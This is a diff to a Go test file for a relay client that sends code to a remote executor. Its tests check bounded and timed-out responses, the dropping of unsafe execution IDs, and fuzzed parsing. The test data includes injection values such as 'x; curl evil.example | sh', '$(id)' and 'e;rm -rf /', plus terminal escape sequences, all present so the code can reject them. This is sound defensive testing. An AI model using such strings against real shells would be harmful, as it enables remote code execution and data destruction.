@@ -5,14 +5,18 @@ import (
 	"encoding/json"
 	"errors"
 	"fmt"
+	"io"
 	"maps"
+	"net/http"
 	"reflect"
 	"sort"
 	"strings"
+	"sync/atomic"
 	"testing"
 	"testing/synctest"
 	"time"
 
+	"colabrelay/relay/plain"
 	"colabrelay/shared/bounded"
 	"colabrelay/shared/contract"
 	"colabrelay/shared/memory"
@@ -236,3 +240,164 @@ func TestNamesOnTheVMAreBounded(t *testing.T) {
 		}
 	}
 }
+
+// What is too long is not read, and nothing says that the code did not run.
+func TestAnAnswerThatIsTooLongSaysWhereToReadOn(t *testing.T) {
+	executor := newExecutor(t, func(s seen) (int, any) {
+		if s.path == contract.PathKernel {
+			return http.StatusOK, contract.Kernel{}
+		}
+		long := contract.Event{Type: contract.EventStream, Name: contract.Stdout, Text: strings.Repeat("x", 1<<20)}
+		return http.StatusOK, contract.Execution{ExecutionID: "e1", RequestID: "r1", Status: contract.StatusSucceeded, Events: []contract.Event{long}}
+	})
+	c := executor.client(t)
+	c.maxAnswer = 512 << 10
+	_, err := c.Submit(t.Context(), contract.Submit{RequestID: "r1", Code: "1"})
+	if e := wantKind(t, err, KindBadAnswer); !strings.Contains(e.Hint, "Do not run the code again") || !strings.Contains(e.Hint, "r1") || !MayRun(err) {
+		t.Errorf("%s; %s", e.Message, e.Hint)
+	}
+	if n := len(executor.submits(t)); n != 1 {
+		t.Errorf("it was submitted %d times", n)
+	}
+	_, err = c.Execution(t.Context(), "e1", 7, 0, contract.MaxReadBytes)
+	if e := wantKind(t, err, KindBadAnswer); !strings.Contains(e.Hint, "from offset 8") {
+		t.Errorf("%s; %s", e.Message, e.Hint)
+	}
+}
+
+// Of an answer that no executor signed, only its beginning is read.
+func TestUnsignedAnswerIsBounded(t *testing.T) {
+	e, _ := newRunningExecutor(t)
+	var sent atomic.Int64
+	e.setBefore(func(w http.ResponseWriter, _ *http.Request) bool {
+		chunk := make([]byte, 1<<20)
+		for range 64 {
+			n, err := w.Write(chunk)
+			sent.Add(int64(n))
+			if err != nil {
+				return true
+			}
+		}
+		return true
+	})
+	c := e.client(t)
+	_, err := c.Health(t.Context())
+	wantKind(t, err, KindNotExecutor)
+	_, err = c.Kernel(t.Context())
+	wantKind(t, err, KindNotExecutor)
+	// Three requests were made: the second call asked for the executor's protocol. Of each
+	// answer, the system buffers some.
+	if n := sent.Load(); n > 3*16<<20 {
+		t.Errorf("%d bytes were taken of 192 MiB", n)
+	}
+}
+
+func TestStalledAnswerTimesOut(t *testing.T) {
+	for name, headers := range map[string]bool{"before the headers": false, "in the body": true} {
+		t.Run(name, func(t *testing.T) {
+			e, _ := newRunningExecutor(t)
+			released := make(chan struct{})
+			defer close(released)
+			e.setBefore(func(w http.ResponseWriter, r *http.Request) bool {
+				if headers {
+					_, _ = io.WriteString(w, `{"status":`)
+					_ = http.NewResponseController(w).Flush()
+				}
+				select {
+				case <-released:
+				case <-r.Context().Done():
+				}
+				return true
+			})
+			c := e.client(t)
+			c.timeouts = timeouts{answer: 80 * time.Millisecond, stall: 80 * time.Millisecond}
+			_, err := c.Health(t.Context())
+			wantKind(t, err, KindTimeout)
+		})
+	}
+}
+
+// A person pastes "colab-relay attach ID" into a shell, and a script uses the id that
+// `run --detach` prints.
+func TestAnIDThatAShellWouldReadAsMoreThanANameIsDropped(t *testing.T) {
+	for id, want := range map[string]string{
+		"3f2a-b.c_d": "3f2a-b.c_d", "--runtime=evil": "", "x; curl evil.example | sh": "", "$(id)": "", "..": "",
+	} {
+		e := newExecutor(t, func(s seen) (int, any) {
+			one := contract.Execution{ExecutionID: id, Status: contract.StatusQueued, Behind: &contract.Behind{ExecutionID: id}}
+			if s.method == http.MethodGet {
+				return http.StatusOK, contract.ExecutionList{Executions: []contract.Execution{one}}
+			}
+			return http.StatusOK, one
+		})
+		c := e.client(t)
+		got, err := c.Submit(t.Context(), contract.Submit{Code: "1"})
+		if err != nil || got.ExecutionID != want || got.Behind.ExecutionID != want {
+			t.Errorf("%q: %q, %+v, %v", id, got.ExecutionID, got.Behind, err)
+		}
+		list, err := c.List(t.Context(), 0)
+		if err != nil || list.Executions[0].ExecutionID != want {
+			t.Errorf("%q: %+v, %v", id, list, err)
+		}
+	}
+}
+
+// answers are the structs that answers of an executor are read into.
+var answers = map[string]func() any{
+	"health": func() any { return new(contract.Health) }, "probe": func() any { return new(contract.Probe) },
+	"kernel": func() any { return new(contract.Kernel) }, "execution": func() any { return new(contract.Execution) },
+	"executions": func() any { return new(contract.ExecutionList) }, "variables": func() any { return new(contract.Variables) },
+	"inspection": func() any { return new(contract.Inspection) }, "cleanup": func() any { return new(contract.Cleanup) },
+	"error": func() any { return new(contract.ErrorBody) },
+}
+
+// FuzzAnswers reads any text as any answer. What was read has only plain strings, except for
+// the output of the user's code, which others clean.
+func FuzzAnswers(f *testing.F) {
+	f.Add("kernel", []byte("{\"status\":\"idle\",\"kernel_id\":\"k\x1b[2J\",\"python\":\"3.12\\u001b]0;t\\u0007\"}"))
+	f.Add("execution", []byte(`{"execution_id":"-e","status":"failed","error":{"ename":"E\u009b","traceback":["a\nb\u202e"]},"events":[{"offset":9223372036854775807}]}`))
+	f.Add("executions", []byte(`{"executions":[{},{"execution_id":"e;rm -rf /","behind":{"prompt":"p\u001b[1A"}}]}`))
+	f.Add("probe", []byte(`{"packages":{"a\u0000":"1"},"gpu":{"devices":[{"name":"T4\r"}]},"storage":[{}]}`))
+	f.Add("variables", []byte(`{"count":-1,"variables":[{"name":"x","shape":[9223372036854775807]}]}`))
+	f.Add("error", []byte(`{"error":{"code":"c\u001b","message":"m\u2066","hint":"h","request_id":"r\n"}}`))
+	f.Add("cleanup", []byte(strings.Repeat("[", 20_000)))
+	f.Fuzz(func(t *testing.T, name string, body []byte) {
+		fresh, known := answers[name]
+		if !known {
+			return
+		}
+		into := fresh()
+		if read(t.Context(), body, into) != nil {
+			return
+		}
+		unplain := func(s string) string {
+			if plain.Text(s) != s {
+				t.Errorf("%s: %q is not plain", name, s)
+			}
+			return s
+		}
+		plain.Deep(into, map[string]plain.Rule{"": unplain, "Events": nil, "Path": nil})
+		if e, ok := into.(*contract.Execution); ok && e.ExecutionID != "" && !validID(e.ExecutionID) {
+			t.Errorf("the id %q was kept", e.ExecutionID)
+		}
+	})
+}
+
+// anyPages are the answers of an executor to the reads of one execution; the last one repeats.
+type anyPages struct {
+	left  []contract.Execution
+	reads int
+}
+
+// Execution implements ExecutionReader.
+func (p *anyPages) Execution(context.Context, string, int64, time.Duration, int64) (contract.Execution, error) {
+	p.reads++
+	e := p.left[0]
+	if len(p.left) > 1 {
+		p.left = p.left[1:]
+	}
+	return e, nil
+}
+
+// InstanceID implements ExecutionReader.
+func (*anyPages) InstanceID() string { return "i" }
